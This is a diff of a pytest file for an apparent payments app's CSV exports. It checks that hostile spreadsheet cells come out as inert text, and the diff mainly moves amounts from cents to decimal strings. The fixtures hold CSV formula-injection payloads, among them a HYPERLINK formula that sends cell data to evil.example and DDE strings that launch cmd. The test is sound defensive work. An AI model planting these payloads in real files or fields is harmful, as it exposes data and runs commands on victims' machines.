@@ -89,9 +89,9 @@ async def report_csv(database_url: str, report: str, *args: str) -> str:
 
 SOURCES = (
     "source,currency,payments,gross\n"
-    '"\'=HYPERLINK(""http://evil.example/?""&A2,""receipt"")",eur,1,2500\n'
-    "'+cmd|' /C calc'!A0,eur,1,1200\n"
-    "'-2+3+cmd|' /C calc'!A0,eur,1,1000\n"
+    '"\'=HYPERLINK(""http://evil.example/?""&A2,""receipt"")",eur,1,25.00\n'
+    "'+cmd|' /C calc'!A0,eur,1,12.00\n"
+    "'-2+3+cmd|' /C calc'!A0,eur,1,10.00\n"
 )
 
 
@@ -120,16 +120,16 @@ async def test_admin_payments_export_writes_sources_and_masked_emails_as_text(
     rows = cells(await admin_csv(client, "payments"))
     assert rows == [
         ["paid_at", "kind", "amount", "currency", "source", "email"],
-        ["2026-03-15T12:00:00Z", "recurring", "1000", "eur", INERT_MINUS, "c***@example.org"],
-        ["2026-03-11T12:00:00Z", "one_off", "1200", "eur", INERT_CALC, "'=***@example.org"],
-        ["2026-03-10T12:00:00Z", "one_off", "2500", "eur", INERT_HYPERLINK, "a***@example.org"],
+        ["2026-03-15T12:00:00Z", "recurring", "10.00", "eur", INERT_MINUS, "c***@example.org"],
+        ["2026-03-11T12:00:00Z", "one_off", "12.00", "eur", INERT_CALC, "'=***@example.org"],
+        ["2026-03-10T12:00:00Z", "one_off", "25.00", "eur", INERT_HYPERLINK, "a***@example.org"],
     ]
 
 
-# April's net is the refund alone: -500, which stays a number.
+# April's net is the refund alone: -5.00, which stays a number.
 PERIOD = [
-    "2026-03,eur,4700,0,0,4700,,3,2,3700,1,1000,0,0",
-    "2026-04,eur,0,500,0,-500,,0,0,0,0,0,1,0",
+    "2026-03,eur,47.00,0.00,0.00,47.00,,3,2,37.00,1,10.00,0,0",
+    "2026-04,eur,0.00,5.00,0.00,-5.00,,0,0,0.00,0,0.00,1,0",
 ]
 
 
@@ -152,9 +152,11 @@ async def test_report_period_csv_keeps_a_negative_net_a_number(
 async def test_admin_progress_export_writes_a_campaign_name_formula_as_text(
     hostile: Database, client: httpx.AsyncClient
 ) -> None:
-    figures = dict(cells(await admin_csv(client, "progress", "campaign=2026"))[1:])
+    figures = {
+        row[0]: row[1] for row in cells(await admin_csv(client, "progress", "campaign=2026"))[1:]
+    }
     assert figures["name"] == INERT_AT_SUM
-    assert (figures["gross"], figures["refunded"], figures["net"]) == ("4700", "500", "4200")
+    assert (figures["gross"], figures["refunded"], figures["net"]) == ("47.00", "5.00", "42.00")
 
 
 @pytest.mark.asyncio
@@ -162,13 +164,13 @@ async def test_report_progress_csv_writes_a_campaign_name_formula_as_text(
     hostile: Database, database_url: str
 ) -> None:
     text = await report_csv(database_url, "progress", "--campaign", "2026")
-    assert "name,'@SUM(1+1)*cmd|' /C calc'!A0\n" in text
-    assert dict(cells(text)[1:])["name"] == INERT_AT_SUM
+    assert "name,'@SUM(1+1)*cmd|' /C calc'!A0,\n" in text
+    assert {row[0]: row[1] for row in cells(text)[1:]}["name"] == INERT_AT_SUM
 
 
-# currency, interval, interval_count, band, active, paused, past_due, new, cancelled,
+# currency, interval, interval_count, band, active, ending, paused, past_due, new, cancelled,
 # active_at_start, churned, mrr
-MEMBERS_ROW = "eur,month,1,€10.00 to under €20.00,1,0,0,1,0,0,0,1000"
+MEMBERS_ROW = "eur,month,1,€10.00 to under €20.00,1,0,0,0,1,0,0,0,10.00"
 
 
 @pytest.mark.asyncio
